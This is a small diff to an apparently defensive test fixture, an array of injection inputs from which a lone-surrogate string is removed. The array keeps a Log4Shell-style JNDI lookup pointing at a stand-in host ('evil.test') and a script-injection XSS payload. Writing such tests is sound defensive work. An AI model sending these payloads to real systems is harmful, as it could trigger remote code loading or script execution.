@@ -18,7 +18,6 @@ const INJECTIONS = [
   "\u009b31mred",
   "line\u2028separator\u2029paragraph\u0085next",
   "\u0000\u0007\u007f",
-  "\ud800lone",
   "$" + "{jndi:ldap://evil.test/a}",
   "<script>alert(1)</script>",
   "A".repeat(5_000),
